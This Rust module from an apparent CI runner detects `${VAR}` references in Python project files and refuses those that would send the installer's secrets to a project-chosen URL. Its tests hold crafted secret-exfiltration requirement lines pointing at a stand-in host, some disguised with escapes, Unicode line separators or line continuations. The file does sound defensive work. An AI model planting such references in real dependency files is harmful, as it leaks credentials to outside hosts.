//! Variables that a project's files refer to as `${NAME}`: installers put their values there, also into addresses.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::LazyLock;

use regex::Regex;
use toml::{Table, Value};

use super::files::FileError;
use super::pyproject::table;
use super::variables::{Variables, secret_names};

/// The pattern that installers treat as a reference.
#[expect(clippy::expect_used, reason = "a constant, read by the tests")]
static REFERENCE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\$\{([A-Za-z0-9_]+)\}").expect("a valid pattern"));

/// Where a file refers to something.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Place {
    /// The file, relative to the project.
    file: String,
    /// The line, if it is known.
    line: Option<usize>,
}

impl Place {
    fn refused(&self, reason: &str) -> FileError {
        let line = self.line.map(|line| format!("line {line} ")).unwrap_or_default();
        FileError::new(&self.file, format!("{line}{reason}"))
    }
}

/// The variables that files refer to, each where it stands first, and what cannot be looked into.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(super) struct References {
    variables: BTreeMap<String, Place>,
    /// An address whose text the installer reads as if it were part of the project.
    remote: Option<Place>,
}

impl References {
    /// Whether a file refers to the variable.
    pub(super) fn contains(&self, name: &str) -> bool {
        self.variables.contains_key(name)
    }

    /// Adds those of a line of requirements.
    pub(super) fn add_line(&mut self, file: &Path, number: usize, line: &str) {
        for found in REFERENCE.captures_iter(line) {
            let place = || Place { file: file.display().to_string(), line: Some(number) };
            self.variables.entry(found[1].to_owned()).or_insert_with(place);
        }
    }

    /// Notes that a line includes an address.
    pub(super) fn add_remote(&mut self, file: &Path, number: usize) {
        self.remote.get_or_insert_with(|| Place { file: file.display().to_string(), line: Some(number) });
    }

    /// Adds those of a TOML file, in which characters may be escaped.
    pub(super) fn add_toml(&mut self, file: &Path, text: &str) -> Result<(), FileError> {
        if text.contains("${") || text.contains('\\') {
            self.add_table(&file.display().to_string(), text, &table(&file.display().to_string(), text)?);
        }
        Ok(())
    }

    /// Adds those of a table that stands in `text`.
    pub(super) fn add_table(&mut self, file: &str, text: &str, table: &Table) {
        let mut values: Vec<&Value> = table.values().collect();
        while let Some(value) = values.pop() {
            match value {
                Value::String(value) => {
                    for found in REFERENCE.captures_iter(value) {
                        let line = text.lines().position(|line| line.contains(&found[0]));
                        let place = || Place { file: file.to_owned(), line: line.map(|line| line + 1) };
                        self.variables.entry(found[1].to_owned()).or_insert_with(place);
                    }
                }
                Value::Array(array) => values.extend(array),
                Value::Table(table) => values.extend(table.values()),
                _ => {}
            }
        }
    }

    /// Adds all of `others`.
    pub(super) fn extend(&mut self, others: Self) {
        for (name, place) in others.variables {
            self.variables.entry(name).or_insert(place);
        }
        self.remote = self.remote.take().or(others.remote);
    }

    /// Refuses references that would send a secret of the installer's `variables` to a place of the project's choice.
    pub(super) fn refuse_secrets(&self, variables: &Variables) -> Result<(), FileError> {
        let secrets = secret_names(variables);
        if let Some((name, place)) = self.variables.iter().find(|(name, _)| secrets.contains(*name)) {
            return Err(place.refused(&format!(
                "refers to ${{{name}}}, a secret of the runner's installer, which uses it by itself; remove the reference, \
                 or let the operator name the variable in MINITOWER_RUN_ENV_PASS for jobs to read it"
            )));
        }
        match (&self.remote, secrets.first()) {
            (Some(place), Some(name)) => Err(place.refused(&format!(
                "includes an address, whose text could refer to ${{{name}}}, a secret of the runner's installer; put the file \
                 into the project, or let the operator name the variable in MINITOWER_RUN_ENV_PASS for jobs to read it"
            ))),
            _ => Ok(()),
        }
    }
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::super::files::tests::project;
    use super::super::project::decide;

    const PROJECT: &str = "[project]\nname='x'\nversion='0'\n";

    fn refusal(files: &[(&str, &str)], variables: &[(&str, &str)]) -> Option<String> {
        let needs = decide(project(files).path(), Some("main.py")).unwrap();
        let variables =
            variables.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
        needs.references.refuse_secrets(&variables).err().map(|error| error.to_string())
    }

    #[rstest]
    #[case("a\n--index-url http://h/${UV_INDEX_MY_PASSWORD}/simple\n", "line 2")]
    #[case("evil @ http://h/${UV_INDEX_MY_PASSWORD}/x.whl\n", "line 1")]
    #[case("evil @ http://h/${${UV_INDEX_MY_PASSWORD}}/x.whl\n", "line 1")]
    #[case("# harmless\revil @ http://h/${UV_INDEX_MY_PASSWORD}/x.whl\n", "line 2")]
    #[case("# harmless\u{2028}evil @ http://h/${UV_INDEX_MY_PASSWORD}/x.whl\n", "line 2")]
    #[case("evil @ http://h/${UV_INDEX_MY_\\\\\nPASSWORD}/x.whl\n", "line 1")]
    #[case("a\n\nevil @ http://h/\\\n${UV_INDEX_MY_PASSWORD}\n", "line 3")]
    fn a_requirement_that_refers_to_a_secret_is_refused(#[case] text: &str, #[case] line: &str) {
        let text = refusal(&[("requirements.txt", text)], &[("UV_INDEX_MY_PASSWORD", "p")]).unwrap();
        for words in ["requirements.txt", line, "${UV_INDEX_MY_PASSWORD}", "MINITOWER_RUN_ENV_PASS"] {
            assert!(text.contains(words), "{words}: {text}");
        }
    }

    #[rstest]
    #[case("PIP_INDEX_URL", "https://u:p@h/simple", "PIP_INDEX_URL", true)]
    #[case("UV_DEFAULT_INDEX", "https://u:p@h/simple", "PIP_INDEX_URL", true)]
    #[case("PIP_EXTRA_INDEX_URL", "https://u:p@h/simple", "UV_INDEX", true)]
    #[case("UV_PUBLISH_TOKEN", "t", "UV_PUBLISH_TOKEN", true)]
    #[case("PIP_INDEX_URL", "https://h/simple", "PIP_INDEX_URL", false)]
    #[case("HTTPS_PROXY", "http://u:p@proxy", "HTTPS_PROXY", false)]
    #[case("UV_PUBLISH_TOKEN", "t", "HOME", false)]
    fn what_the_job_may_read_may_stand_in_its_files(
        #[case] set: &str,
        #[case] value: &str,
        #[case] referred: &str,
        #[case] refused: bool,
    ) {
        let text = format!("a @ http://h/${{{referred}}}/a.whl\n");
        assert_eq!(refusal(&[("requirements.txt", &text)], &[(set, value)]).is_some(), refused);
    }

    #[rstest]
    #[case("pyproject.toml", "dependencies=['e @ http://h/${PIP_TOKEN}/e.whl']\n", Some("line 4"))]
    #[case("pyproject.toml", "dependencies=[\"e @ http://h/\\u0024{PIP_TOKEN}/e.whl\"]\n", Some(""))]
    #[case(
        "pyproject.toml",
        "dependencies=['a']\n[tool.uv]\noverride-dependencies=['e @ http://h/${PIP_TOKEN}']\n",
        Some("line 6")
    )]
    #[case(
        "pyproject.toml",
        "dependencies=['a']\n[[tool.uv.index]]\nurl='http://h/${PIP_TOKEN}'\n",
        Some("line 6")
    )]
    #[case("pyproject.toml", "dependencies=['a']\n# ${PIP_TOKEN}\n", None)]
    #[case("uv.toml", "index-url='http://h/${PIP_TOKEN}'\n", Some("line 1"))]
    #[case(
        "main.py",
        "# /// script\n# dependencies = ['e @ http://h/${PIP_TOKEN}/e.whl']\n# ///\n",
        Some("line 2")
    )]
    fn other_files_are_read_likewise(#[case] file: &str, #[case] text: &str, #[case] refused: Option<&str>) {
        let main =
            format!("{PROJECT}{}", if file == "pyproject.toml" { text } else { "dependencies=['a']\n" });
        let mut files = vec![("pyproject.toml", main.as_str())];
        files.extend((file != "pyproject.toml").then_some((file, text)));
        let answer = refusal(&files, &[("PIP_TOKEN", "t")]);
        assert_eq!(answer.is_some(), refused.is_some(), "{answer:?}");
        assert!(answer.is_none_or(|answer| answer.starts_with(file) && answer.contains(refused.unwrap())));
    }

    #[test]
    fn what_cannot_be_looked_into_is_refused_where_there_are_secrets() {
        let files = [("requirements.txt", "a\n-r https://h/r.txt\n")];
        let text = refusal(&files, &[("PIP_TOKEN", "t")]).unwrap();
        assert!(text.starts_with("requirements.txt: line 2 includes an address"), "{text}");
        assert_eq!(refusal(&files, &[("PIP_INDEX_URL", "https://h/simple")]), None);
    }
}
